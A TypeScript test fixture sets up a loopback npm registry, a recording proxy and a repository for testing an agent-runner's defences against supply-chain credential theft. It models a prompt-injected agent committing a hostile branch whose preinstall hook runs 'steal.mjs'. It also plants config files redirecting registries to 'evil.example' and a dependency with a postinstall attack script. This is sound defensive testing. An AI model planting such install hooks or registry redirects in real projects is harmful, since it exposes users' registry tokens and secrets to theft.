/**
 * A person with a private package registry and a token for it, a way out through a proxy, and a repository in which an
 * agent may put package scripts of its own on a branch. Registry and proxy are servers of the test, on loopback.
 */
import { spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

import type { RunView } from '../../src/words/run.ts';
import { listening } from './egress.ts';
import { gitRepo, temporaryFolder, type GitRepo } from './git-repo.ts';
import type { TestUser } from './probed-person.ts';
import { workspaceOf, type TestWorkspace } from './workspace.ts';

const FIXTURES = fileURLToPath(new URL('../fixtures/branch-set-up', import.meta.url));

export interface SetUpWorld {
  readonly workspace: TestWorkspace;
  readonly repo: GitRepo;
  readonly token: string;
  /** Requests to the registry: path, and whether the token came with it. */
  readonly asked: readonly string[];
  /** Everything that left this machine through its proxy: where to, and what. */
  sent(): string;
  /** Writes routines/<id>.yaml: an agent that runs a shell script, and more of the routine as YAML. */
  routine(id: string, script: string, yaml?: string): void;
  run(id: string): Promise<{ readonly view: RunView; readonly log: string }>;
  /** Files belong to the user who runs it. */
  own(): void;
}

export const NPM_CI = 'npm ci --no-audit --no-fund';

/** What an agent does that was talked into it: its branch has the package script of the attack. */
export const HOSTILE_BRANCH = `cp -R hostile/. . && git add -A && git commit --allow-empty -qm "Tidy up"`;

interface WorldOptions {
  /** Besides what every such project has. */
  readonly files?: Readonly<Record<string, string>>;
  /** Of the one dependency; it runs wherever that is installed. */
  readonly postinstall?: string;
  readonly env?: Readonly<Record<string, string>>;
}

export async function setUpWorld(
  { user }: TestUser,
  { files = {}, postinstall, env = {} }: WorldOptions = {},
): Promise<SetUpWorld> {
  const token = `registry-${randomBytes(12).toString('hex')}`;
  const tarball = packedDependency(postinstall);
  const asked: string[] = [];
  const registry = await listening(
    createServer((request, response) => {
      const knows = request.headers.authorization === `Bearer ${token}`;
      asked.push(`${request.url} ${knows ? 'with' : 'without'} the token`);
      response.writeHead(knows ? 200 : 401);
      response.end(knows && request.url?.endsWith('.tgz') === true ? tarball : '{}');
    }),
  );
  const left: string[] = [];
  const proxy = await listening(
    createServer((request, response) => {
      let body = '';
      request.on('data', (piece) => (body += String(piece)));
      request.on('end', () => {
        left.push(`${request.url ?? ''} ${body}`);
        response.end('thank you');
      });
    }).on('connect', (request, socket) => {
      left.push(`CONNECT ${request.url ?? ''}`);
      socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
    }),
  );
  const repo = gitRepo({ ...projectFiles(registry, tarball), ...files });
  const workspace = workspaceOf(repo, {
    env: { HTTPS_PROXY: `http://127.0.0.1:${proxy}`, ...env },
    ...(user === null ? {} : { user }),
  });
  writeFileSync(
    join(workspace.home, '.npmrc'),
    `registry=http://127.0.0.1:${registry}/\n//127.0.0.1:${registry}/:_authToken=${token}\nupdate-notifier=false\n`,
    { mode: 0o600 },
  );
  const own = (): void => {
    if (user === null) return;
    for (const path of [repo.path, workspace.home])
      spawnSync('chown', ['-R', `${user.uid}:${user.gid}`, path]);
  };
  return {
    workspace,
    repo,
    token,
    asked,
    own,
    sent: () => left.join('\n'),
    routine: (id, script, yaml = '') => {
      const report = `printf '## Summary\\n\\nDone.\\n' > "$ROUNDSMAN_OUT/report.md"`;
      const all = `report: { require: [summary] }\n${yaml}`;
      workspace.agentRoutine(id, ['/bin/sh', '-c', `${script} && ${report}`], all);
      // The files may belong to another user by now.
      const trusted = ['-c', `safe.directory=${repo.path}`];
      repo.git(...trusted, 'add', 'routines');
      repo.git(...trusted, 'commit', '--quiet', '-m', `Add ${id}`);
    },
    run: async (id) => {
      own();
      const ran = await workspace.ask('run', id, '--json');
      if (ran.stdout === '') throw new Error(ran.stderr);
      const view: RunView = JSON.parse(ran.stdout);
      const log = readFileSync(join(workspace.runFolder(view.id), 'commands.log'), 'utf8');
      return { view, log };
    },
  };
}

/** A project with one private dependency; `hostile/` has what the agent is to put in place of it. */
function projectFiles(registry: number, tarball: Uint8Array): Readonly<Record<string, string>> {
  const manifest = { name: 'project', version: '1.0.0', dependencies: { tiny: '1.0.0' } };
  const hostile = { ...manifest, scripts: { preinstall: 'node steal.mjs' } };
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  const resolved = `http://127.0.0.1:${registry}/tiny/-/tiny-1.0.0.tgz`;
  const lock = (root: object): string =>
    JSON.stringify({
      name: 'project',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': root,
        'node_modules/tiny': { version: '1.0.0', resolved, integrity, hasInstallScript: true },
      },
    });
  const steal = readFileSync(join(FIXTURES, 'steal.mjs'), 'utf8');
  return {
    '.gitignore': 'node_modules\n',
    'package.json': JSON.stringify(manifest),
    'package-lock.json': lock(manifest),
    'tools.mjs': readFileSync(join(FIXTURES, 'tools.mjs'), 'utf8'),
    'hostile/steal.mjs': steal,
    'hostile/.npmrc': '@evil:registry=http://evil.example/\n',
    'hostile/.yarnrc.yml': 'npmRegistryServer: "http://evil.example"\n',
    'hostile/.cargo/config.toml': '[registries.evil]\nindex = "sparse+http://evil.example/"\n',
    'hostile/package.json': JSON.stringify(hostile),
    'hostile/package-lock.json': lock({ ...hostile, hasInstallScript: true }),
  };
}

function packedDependency(postinstall: string | undefined): Uint8Array {
  const folder = temporaryFolder('rm-tiny-');
  mkdirSync(join(folder, 'package'));
  const scripts = postinstall === undefined ? {} : { scripts: { postinstall: 'node attack.mjs' } };
  const manifest = { name: 'tiny', version: '1.0.0', ...scripts };
  writeFileSync(join(folder, 'package/package.json'), JSON.stringify(manifest));
  writeFileSync(join(folder, 'package/attack.mjs'), postinstall ?? '');
  cpSync(join(FIXTURES, 'steal.mjs'), join(folder, 'package/steal.mjs'));
  spawnSync('tar', ['-czf', 'tiny.tgz', 'package'], { cwd: folder });
  return readFileSync(join(folder, 'tiny.tgz'));
}
